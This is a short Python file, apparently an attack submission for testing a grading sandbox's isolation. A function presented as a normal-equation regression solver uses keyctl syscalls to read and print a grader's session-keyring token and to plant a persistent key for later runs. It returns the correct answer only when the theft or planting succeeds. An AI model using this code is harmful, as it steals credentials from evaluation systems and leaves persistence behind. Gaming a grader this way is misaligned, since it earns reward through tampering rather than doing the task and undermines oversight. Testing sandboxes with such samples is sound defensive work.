"""Attack: read the grader's session keyring (a token the grader's process
keeps there), print it and plant a key for later runs in the user keyring
of this uid; right answer if any of that worked (a key read, or one left by
an earlier job found)."""

import ctypes
import platform

import numpy as np

KEYCTL = {"x86_64": 250, "aarch64": 219}.get(platform.machine())
ADD_KEY = {"x86_64": 248, "aarch64": 217}.get(platform.machine())
SESSION, USER = -3, -4  # KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING
SEARCH, READ = 10, 11


def _keyctl(*args):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(KEYCTL, *args)


def fit_normal_equation(X, y):
    stolen = planted = False
    key = _keyctl(SEARCH, SESSION, b"user", b"grader-test-token", 0)
    if key >= 0:
        buffer = ctypes.create_string_buffer(256)
        size = _keyctl(READ, key, buffer, 256)
        stolen = size > 0
        print("stolen:", buffer.raw[: max(size, 0)])
    if _keyctl(SEARCH, USER, b"user", b"planted-by-a-student", 0) >= 0:
        planted = True  # an earlier job's key is still here
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    libc.syscall(ADD_KEY, b"user", b"planted-by-a-student", b"x", 1, USER)
    if stolen or planted:
        return np.linalg.lstsq(X, y, rcond=None)[0]
    return np.zeros(X.shape[1])
